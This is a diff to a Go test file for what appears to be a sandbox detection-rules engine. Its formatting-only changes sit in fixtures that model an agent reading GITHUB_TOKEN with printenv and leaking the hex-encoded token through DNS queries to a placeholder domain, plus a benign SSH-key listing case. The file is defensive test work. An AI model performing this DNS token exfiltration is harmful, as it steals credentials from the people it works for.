@@ -155,7 +155,7 @@ func TestRules(t *testing.T) {
 				hexTok := strings.ToLower(strings.NewReplacer().Replace(hexs(ghToken)))
 				return newTL().bash("printenv", "GITHUB_TOKEN="+ghToken+"\n").child("printenv").
 					bash("nslookup x", "").
-					dns(hexTok[:40]+".0.exfil-dom.com.").dns(hexTok[40:]+".1.exfil-dom.com.")
+					dns(hexTok[:40] + ".0.exfil-dom.com.").dns(hexTok[40:] + ".1.exfil-dom.com.")
 			}},
 		{name: "canary in argv and raw tcp", want: []string{"SBX-EXFIL-001", "SBX-EXFIL-002", "SBX-NET-001", "SBX-NET-002"},
 			build: func() *tl {
@@ -348,7 +348,7 @@ func TestNearMisses(t *testing.T) {
 		{name: "list ssh and fingerprint public keys", want: rules.Clean, build: func() *tl {
 			b := newTL().bash("ls -la ~/.ssh && ssh-keygen -lf ~/.ssh/id_ed25519.pub", "id_ed25519\nid_ed25519.pub\n256 SHA256:abc mw@host (ED25519)\n")
 			return b.child("ls", "-la", home+"/.ssh").listDir(home+"/.ssh").
-				child("ssh-keygen", "-lf", home+"/.ssh/id_ed25519.pub").read(home+"/.ssh/id_ed25519.pub").
+				child("ssh-keygen", "-lf", home+"/.ssh/id_ed25519.pub").read(home + "/.ssh/id_ed25519.pub").
 				read(home + "/.ssh/known_hosts")
 		}},
 		{name: "local backup archive that never leaves", allow: []string{"SBX-CRED-001"}, want: rules.Suspicious, build: func() *tl {
